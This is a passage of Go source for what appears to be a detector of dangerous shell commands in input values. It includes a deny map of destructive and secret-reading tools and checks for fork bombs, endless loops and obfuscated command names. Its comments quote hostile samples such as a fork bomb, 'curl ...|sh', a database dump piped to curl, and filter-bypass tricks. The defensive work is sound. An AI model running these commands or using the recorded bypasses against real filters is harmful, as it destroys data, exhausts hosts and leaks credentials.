	"zpool": nil, "swapoff": nil, "modprobe": nil, "rmmod": nil, "insmod": nil, "mkfs": nil, "mkswap": nil,
	"dmsetup": nil, "cryptsetup": nil, "mke2fs": nil, "mongorestore": nil, "psql": nil,
	"shred": {}, "fdisk": {}, "sfdisk": {}, "parted": {}, "mdadm": {}, "mysql": {},
	"zfs":    {"destroy", "send", "rollback", "unmount", "umount"},
	"gsutil": {"cp", "cat", "rm", "rsync", "mv", "ls"},
	"doctl":  {"compute", "databases", "kubernetes", "registry", "auth", "account"},
	"aws": {"secretsmanager", "ssm", "sts", "iam", "s3", "s3api", "kms", "ec2", "configure", "lambda", "dynamodb",
		"rds", "ecr", "eks", "sso", "sqs", "sns", "logs", "cloudformation", "cloudtrail", "organizations", "cognito-idp",
		"ecs"},
	"az": {"keyvault", "account", "ad", "storage", "vm", "login", "role", "group", "webapp", "aks", "sql", "cosmosdb",
		"functionapp", "acr"},
	"vault":     {"kv", "token", "secrets", "operator", "policy", "auth", "read", "write", "list", "print"},
	"consul":    {"kv", "members", "acl", "catalog", "snapshot"},
	"helm":      {"get", "list", "ls", "uninstall", "delete", "rollback", "history", "upgrade", "install", "status"},
	"terraform": {"output", "destroy", "state", "show", "import", "console", "apply"},
	"heroku":    {"config", "run", "pg", "ps", "logs", "apps", "auth", "access"},
}

// toolRunners run a tool as the next word: truncateRunners and those
// whose options or duration runnerOptionsEnd reads (timeout 5, nice -n
// 10, ionice -c3, runuser -u postgres --, setsid, stdbuf, xargs), and su
// before its -c (su postgres -c pg_dumpall: suCommandStart).
var toolRunners = []string{"command", "exec", "eval", "nohup", "env", "sudo", "doas", "time", "timeout", "nice",
	"ionice", "runuser", "setsid", "stdbuf", "xargs", "su"}

// toolProse are words prose puts after a tool's name ("Install it;
// kubectl is the CLI", "Postgres & pg_dump tips", "pg_dump vs
// pg_basebackup"): a tool's command that holds one is prose.
var toolProse = map[string]bool{"is": true, "was": true, "are": true, "and": true, "or": true, "the": true, "a": true,
	"an": true, "to": true, "for": true, "in": true, "on": true, "of": true, "with": true, "will": true, "can": true,
	"should": true, "must": true, "does": true, "did": true, "has": true, "have": true, "lets": true, "then": true,
	"also": true, "not": true, "too": true, "command": true, "commands": true, "tool": true, "works": true, "runs": true,
	"tips": true, "tip": true, "guide": true, "basics": true, "tutorial": true, "reference": true, "cheat": true,
	"cheatsheet": true, "sheet": true, "explained": true, "vs": true, "versus": true, "examples": true, "example": true,
	"usage": true, "help": true, "docs": true, "manual": true, "howto": true, "faq": true, "intro": true,
	"introduction": true, "overview": true, "best": true, "practices": true, "tricks": true, "error": true,
	"errors": true, "issue": true, "issues": true, "problem": true, "problems": true, "fails": true, "failed": true,
	"hangs": true, "keeps": true, "timing": true, "removes": true, "creates": true, "deletes": true, "pricing": true,
	"vars": true, "options": true, "flags": true, "cli": true, "install": true, "installation": true, "setup": true,
	"schedule": true, "backups": true, "backup": true, "script": true, "scripts": true, "cron": true, "pipeline": true,
	"alternative": true, "alternatives": true, "output": true, "status": true, "version": true, "plugin": true}

// toolArguments: after a tool's name (ending at v[e]) the command is the
// tool's, not prose's: an option, a redirection or a pipe (pg_dumpall >
// f, pg_dumpall|curl ...), or (sub nil) its end, a path, a variable
// (dropdb $PGDATABASE) or up to 3 words, none prose's (toolProse) or
// capitalised as a title's (kubectl Commands), before the command's end;
// with sub given (a name that is a word too), one of sub first, then the
// same. An empty sub takes an option or a path only (mysql -e, shred
// -u).
func toolArguments(v string, e int, tool string, sub []string) bool {
	if shellOption(v, e) || toolRedirection(v, e) && toolAlone[tool] {
		return true
	}
	if sub != nil && len(sub) == 0 {
		return shellPathArg(v, e)
	}
	n := skipBlanks(v, e)
	if sub != nil {
		if n == e {
			return false
		}
		// the tool's options before its subcommand (terraform -chdir=x
		// output, aws --profile p sts ...: one word each)
		for o := 0; o < 4 && n < len(v) && v[n] == '-'; o++ {
			m := n
			for m < len(v) && !shellArgEnd(v[m]) {
				m++
			}
			if n = skipBlanks(v, m); n == m {
				return false
			}
		}
		var b [16]byte
		w, m := shellRunWord(v, n, b[:0])
		found := false
		for _, s := range sub {
			found = found || m > n && string(w) == s
		}
		if !found {
			return false
		}
		if tool == "aws" {
			return awsAction(v, m)
		}
		if shellOption(v, m) || toolPipe(v, m) {
			return true
		}
		if string(w) == "ls" && shellWordEnds(v, m) {
			return false // gsutil ls alone: the buckets' names, a search's words too
		}
		e = m
	}
	for words := 0; ; words++ {
		if shellWordEnds(v, e) {
			// alone, a tool of sysCommandTools prints its help but
			// pg_dumpall, pg_dump and mongodump, which dump the
			// database the environment names ("Docker & kubectl", a
			// title, passes)
			return words > 0 || sub != nil || toolAlone[tool]
		}
		if toolPipe(v, e) || shellOption(v, e) || shellPathArg(v, e) {
			return true
		}
		n = skipBlanks(v, e)
		if n == e || n >= len(v) || words == 3 {
			return false
		}
		if v[n] == '$' || v[n] == '"' && n+1 < len(v) && v[n+1] == '$' {
			return true // a variable: the database's own, $PGDATABASE
		}
		var b [24]byte
		w, m := shellRunWord(v, n, b[:0])
		if m == n || toolProse[string(w)] || v[n] >= 'A' && v[n] <= 'Z' {
			return false
		}
		for m < len(v) && !shellArgEnd(v[m]) && v[m] != '<' && v[m] != '>' {
			m++ // the rest of an argument: secret/db, s3://bucket
		}
		e = m
	}
}

// toolAlone are the tools of sysCommandTools that do harm with no
// argument.
var toolAlone = map[string]bool{"pg_dumpall": true, "pg_dump": true, "mongodump": true}

// nameTransformers are commands whose output, in a substitution at a
// command's place, names the command (computedCommand).
var nameTransformers = map[string]bool{"dirname": true, "basename": true, "rev": true, "tr": true, "cut": true,
	"sed": true, "awk": true, "printf": true, "echo": true, "xxd": true, "base64": true, "tac": true, "fold": true,
	"od": true, "iconv": true, "envsubst": true, "head": true, "tail": true, "xargs": true, "sort": true, "paste": true,
	"cat": true, "expr": true}

// computedCommand: the separator at v[i] opens a substitution (` or
// $() at a command's place (after ; | & a line break or a bracket) whose
// command transforms data into a name (nameTransformers, with a path, a
// here-string or a pipe in it: `dirname curl/x`, `rev<<<di`, `tr -d
// x<<<ixd`: attack 93 ran curl ...|sh so under dash), then the command
// goes on as a command's would: the value's end, a separator, an option
// or an argument with / : or . in it. Inline code in prose ("; `dirname
// path` gives the directory") goes on with words and passes.
func computedCommand(v string, i, k int) bool {
	closing := byte('`')
	if v[i] == '$' {
		closing = ')'
	} else if v[i] != '`' {
		return false
	}
	if !commandPlace(v, i) {
		return false
	}
	c := strings.IndexByte(v[k:min(len(v), k+shellStateWindow)], closing)
	if c < 0 {
		return false
	}
	inner := v[k : k+c]
	var b [16]byte
	// the transformer by its path or after a runner too (`/usr/bin/rev
	// <<<di`, `command dirname id/x`: a review)
	w, e := shellCommandWord(inner, 0, []string{"command", "exec", "env", "builtin"}, true, b[:0])
	if e == 0 || !nameTransformers[string(w)] || !strings.Contains(inner, "<<<") && !strings.ContainsAny(inner, "/|") && !(string(w) == "expr") {
		return false
	}
	n := skipBlanks(v, k+c+1)
	if n < len(v) && v[n] == '"' {
		n = skipBlanks(v, n+1) // "`dirname id/x`": quoted, one word still
	}
	if n >= len(v) || strings.IndexByte(";|&\n)`<>", v[n]) >= 0 {
		return true
	}
	if v[n] == '-' {
		return n+1 < len(v) && (asciiLetter(v[n+1]) || v[n+1] == '-') // an option, not prose's ->
	}
	m := n
	for m < len(v) && !shellArgEnd(v[m]) {
		m++
	}
	return strings.ContainsAny(v[n:m], "/:.")
}

// commandPlace: the substitution opened at v[i] stands where a command
// does: after ; | or & (not a line break or a bracket, where Markdown's
// inline code stands: a review's false positives), with blanks, quotes,
// {, ! or an assignment's ${IFS} between, or after eval, if, then, do,
// while, until, exec or command ("`dirname id/x`", { `rev<<<di`;},
// eval `...`: a review's bypasses).
func commandPlace(v string, i int) bool {
	j := i - 1
	for j >= 0 {
		switch {
		case v[j] == ' ' || v[j] == '\t' || v[j] == '"' || v[j] == '{' || v[j] == '!':
			j--
			continue
		case j >= 5 && v[j-5:j+1] == "${IFS}":
			j -= 6
			continue
		}
		break
	}
	if j < 0 {
		return false
	}
	if strings.IndexByte(";|&", v[j]) >= 0 {
		return true
	}
	e := j + 1
	for j >= 0 && asciiLetter(v[j]) {
		j--
	}
	switch v[j+1 : e] {
	case "eval", "if", "then", "do", "while", "until", "exec", "command":
		return j < 0 || !asciiLetter(v[j]) && !(v[j] >= '0' && v[j] <= '9')
	}
	return false
}

// shellForkBomb: at v[k], a function that starts itself twice, piped or
// in the background (:(){ :|:& };:, f(){ f|f& };f: attack 93; bash
// defines it, and the call after it takes the host down): a name (any
// of bash's: :, @, a word), (), or function and a name, a body in {} or
// () of 256 bytes at most in which the name (or $FUNCNAME), a single |
// or & and the name again stand, or the name then a single &. Code's
// methods (isValid() { return isValidEmail(x) && isValidName(y) }) pass:
// && and || are no pipe, and a name inside a longer one is none.
func shellForkBomb(v string, k int) bool {
	n := k
	if w, ok := shellWordAt(v, k, "function"); ok {
		n = skipBlanks(v, w)
	}
	e := n
	for e < len(v) && e-n < 32 && strings.IndexByte(" \t\r\n;&|()<>{}$`'\"", v[e]) < 0 {
		e++
	}
	if e == n {
		return false
	}
	name := v[n:e]
	b := skipBlanks(v, e)
	if strings.HasPrefix(v[b:], "()") {
		b += 2
	} else if n == k {
		return false // no () and no function keyword
	}
	b = skipSpace(v, b)
	if b >= len(v) || v[b] != '{' && v[b] != '(' {
		return false
	}
	body := v[b+1 : min(len(v), b+257)]
	for x := 0; x < len(body); {
		m := selfCall(body, x, name)
		if m < 0 {
			x++
			continue
		}
		p := skipBlanks(body, m)
		if p < len(body) && (body[p] == '|' || body[p] == '&') && (p+1 >= len(body) || body[p+1] != body[p]) {
			if body[p] == '&' {
				return true
			}
			if q := skipBlanks(body, p+1); selfCall(body, q, name) >= 0 {
				return true
			}
		}
		x = m
	}
	return false
}

// selfCall: at body[x] stands name or $FUNCNAME as a word of its own;
// the index after it, or -1.
func selfCall(body string, x int, name string) int {
	if x > 0 && identByte(body[x-1], "") {
		return -1
	}
	for _, w := range [...]string{name, "$FUNCNAME", "${FUNCNAME}"} {
		if strings.HasPrefix(body[x:], w) {
			e := x + len(w)
			if e < len(body) && identByte(body[e], "") && identByte(w[len(w)-1], "") {
				continue
			}
			return e
		}
	}
	return -1
}

// shellEndlessLoop: at v[k], a loop that never ends (while :; do :;
// done, while true, until false, for ((;;)): attack 93 burned a core
// with one): its head, then ; or a line break and do. The heads a
// review found: [ 1 ], test 1, ((1)), /bin/true, "true", ! false,
// true&&true, sleep 0, and for((i=0;;i++)), for((;1;)). After a line
// break a loop is a tutorial's ("Use this loop:\nwhile true; do date;
// sleep 1; done") and is read only after ; | or &.
func shellEndlessLoop(v string, k int) bool {
	if w, ok := shellWordAt(v, k, "for"); ok {
		n := skipBlanks(v, w)
		if !strings.HasPrefix(v[n:], "((") {
			return false
		}
		c := strings.Index(v[n:min(len(v), n+64)], "))")
		if c < 0 {
			return false
		}
		parts := strings.Split(v[n+2:n+c], ";")
		if len(parts) != 3 {
			return false
		}
		cond := strings.TrimSpace(parts[1])
		return cond == "" || foreverCondition("(("+cond+"))", true)
	}
	forever := true
	n := k
	if w, ok := shellWordAt(v, k, "while"); ok {
		n = w
	} else if w, ok := shellWordAt(v, k, "until"); ok {
		n, forever = w, false
	} else {
		return false
	}
	n = skipBlanks(v, n)
	end := n
	for end < len(v) && end-n < 32 && v[end] != ';' && v[end] != '\n' && v[end] != '#' {
		end++
	}
	if end >= len(v) || !foreverCondition(strings.TrimSpace(v[n:end]), forever) {
		return false
	}
	if v[end] == '#' { // a comment to the line's end: while true # x
		for end < len(v) && v[end] != '\n' {
			end++
		}
		if end >= len(v) {
			return false
		}
	}
	w, ok := shellWordAt(v, skipSpace(v, end+1), "do")
	return ok && (w == len(v) || shellArgEnd(v[w]) || v[w] == ':')
}

// foreverCondition: c is a loop's condition that always holds (want
// true: while) or always fails (false: until), as bash and dash read
// it: :, true or false by a path or quoted, ! before the other, a test of
// a non-empty word, an arithmetic of a non-zero number, && or || of such
// conditions, sleep 0; or, in for(( )), an empty or non-zero condition.
func foreverCondition(c string, want bool) bool {
	for _, sep := range []string{"&&", "||"} {
		if x := strings.Index(c, sep); x > 0 {
			return foreverCondition(strings.TrimSpace(c[:x]), want) && foreverCondition(strings.TrimSpace(c[x+2:]), want)
		}
	}
	if strings.HasPrefix(c, "!") {
		return foreverCondition(strings.TrimSpace(c[1:]), !want)
	}
	word := strings.Trim(c, "\"'")
	if x := strings.LastIndexByte(word, '/'); x >= 0 && strings.HasPrefix(word, "/") {
		word = word[x+1:]
	}
	switch {
	case word == "true" || word == ":" || word == "sleep 0":
		return want
	case word == "false":
		return !want
	}
	inner := ""
	switch {
	case strings.HasPrefix(c, "[[") && strings.HasSuffix(c, "]]"):
		inner = strings.TrimSpace(c[2 : len(c)-2])
	case strings.HasPrefix(c, "[") && strings.HasSuffix(c, "]"):
		inner = strings.TrimSpace(c[1 : len(c)-1])
	case strings.HasPrefix(c, "test "):
		inner = strings.TrimSpace(c[5:])
	case strings.HasPrefix(c, "((") && strings.HasSuffix(c, "))"):
		x := strings.TrimSpace(c[2 : len(c)-2])
		return x != "" && strings.Trim(x, "0123456789") == "" && (strings.Trim(x, "0") != "") == want
	default:
		return false
	}
	// a test of one non-empty word holds: [ 1 ], test x
	return want && inner != "" && !strings.ContainsAny(inner, " \t")
}

// shellWordAt: word stands at v[k] and ends there (a blank, a separator
// or the value's end after it); the index after it.
func shellWordAt(v string, k int, word string) (int, bool) {
	if !strings.HasPrefix(v[k:], word) {
		return k, false
	}
	e := k + len(word)
	return e, e == len(v) || shellArgEnd(v[e]) || v[e] == '('
}

// toolPipe: a redirection or a pipe after a tool's arguments
// (toolRedirection), but not a title's separator: " | " then a
// capitalised word ("Tutorial | kubectl apply | Part 2", "Docs | vault
// kv | HashiCorp": attack 93's false positives).
func toolPipe(v string, e int) bool {
	if !toolRedirection(v, e) {
		return false
	}
	n := skipBlanks(v, e)
	if v[n] != '|' {
		return true
	}
	m := skipBlanks(v, n+1)
	if m >= len(v) || !(v[m] >= 'A' && v[m] <= 'Z') {
		return true
	}
	// an assignment before the command (| X=1 sh, | IFS= nc: a review)
	a := identEnd(v, m)
	return a < len(v) && v[a] == '='
}

// toolRedirection: blanks at v[e:], then a redirection or a pipe (>, >>,
// <, 2>&1, |, but not ||).
func toolRedirection(v string, e int) bool {
	n := skipBlanks(v, e)
	if n >= len(v) {
		return false
	}
	if v[n] == '|' {
		return n+1 >= len(v) || v[n+1] != '|'
	}
	return shellRedirectionEnd(v, n, min(len(v), n+shellStateWindow)) > n
}

// awsAction: after aws and its service, an action (a hyphenated name:
// get-secret-value, get-caller-identity; s3's ls, cp, sync, rm, mv, or
// configure's get, list, export-credentials), or an option.
func awsAction(v string, m int) bool {
	if shellOption(v, m) {
		return true
	}
	n := skipBlanks(v, m)
	if n == m {
		return false
	}
	var b [32]byte
	w, e := shellRunWord(v, n, b[:0])
	if e == n {
		return false
	}
	switch string(w) {
	case "cp", "sync", "rm", "mv", "get":
		return true
	case "ls":
		// a bucket's objects (s3 ls s3://b, ls --recursive); ls alone,
		// the buckets' names, ends a search query too (aws s3 ls;
		// gsutil ls: attack 93's false positive)
		return shellOption(v, e) || shellPathArg(v, e) || strings.Contains(v[e:min(len(v), e+64)], "s3://")
	}
	return strings.IndexByte(string(w), '-') > 0 && w[0] >= 'a' && w[0] <= 'z'
}

// shellOption: blanks at v[e:], then an option: - and letters (-a, -f,
// -xp, -g) or -- and a name (--all, --force=x), ending at the value's
// end, a blank, a separator or (after a long name) =. "du -- de" and
// "halt - stop" are none.
func shellOption(v string, e int) bool {
	k := skipBlanks(v, e)
	if k == e || k+1 >= len(v) || v[k] != '-' {
		return false
	}
	n := k + 1
	long := v[n] == '-'
	if long {
		n++
	}
	s := n
	for n < len(v) && n-s < 32 && (v[n] >= 'a' && v[n] <= 'z' || v[n] >= 'A' && v[n] <= 'Z' || long && n > s && v[n] == '-') {
		n++
	}
	if n == s {
		return false
	}
	return n == len(v) || shellArgEnd(v[n]) || v[n] == '#' || long && v[n] == '='
}

// duPathArgs: after du (ending at v[e]), options (shellOption) then a
// path (shellPathArg) that is absolute (du -a /home) or ends the command
// (du -sh ~/x): "du -sh shows 90%" and "du -sh * too" are prose. It reads
// within shellStateWindow bytes.
func duPathArgs(v string, e int) bool {
	limit := min(len(v), e+shellStateWindow)
	opt := false
	for j := e; j < limit; {
		n := skipBlanks(v, j)
		if n == j || n >= limit {
			return false
		}
		m := n
		for m < limit && !shellArgEnd(v[m]) {
			m++
		}
		if v[n] == '-' {
			if !shellOption(v, j) {
				return false
			}
			opt, j = true, m
			continue
		}
		return opt && shellPathArg(v, j) && (v[n] == '/' || shellWordEnds(v, m))
	}
	return false
}

// shellRunlevel: blanks at v[e:], a runlevel (0-6, s or S), and the
// command's end (shellWordEnds): x;init 6, x;telinit 0. "init 2 repos"
// is prose.
func shellRunlevel(v string, e int) bool {
	k := skipBlanks(v, e)
	if k == e || k >= len(v) || !(v[k] >= '0' && v[k] <= '6' || v[k] == 's' || v[k] == 'S') {
		return false
	}
	return shellWordEnds(v, k+1)
}

// shellPathArg: blanks at v[e:], then an absolute path or one from the
// home or the current directory (/root, ~/.ssh, ./x): x;vdir /home.
func shellPathArg(v string, e int) bool {
	k := skipBlanks(v, e)
	if k == e || k >= len(v) {
		return false
	}
	switch {
	case v[k] == '/':
		return k+1 == len(v) || identByte(v[k+1], ".") || shellArgEnd(v[k+1])
	case v[k] == '~' || v[k] == '.':
		j := k + 1
		if v[k] == '.' && j < len(v) && v[j] == '.' {
			j++
		}
		return j+1 < len(v) && v[j] == '/' && identByte(v[j+1], ".")
	}
	return false
}
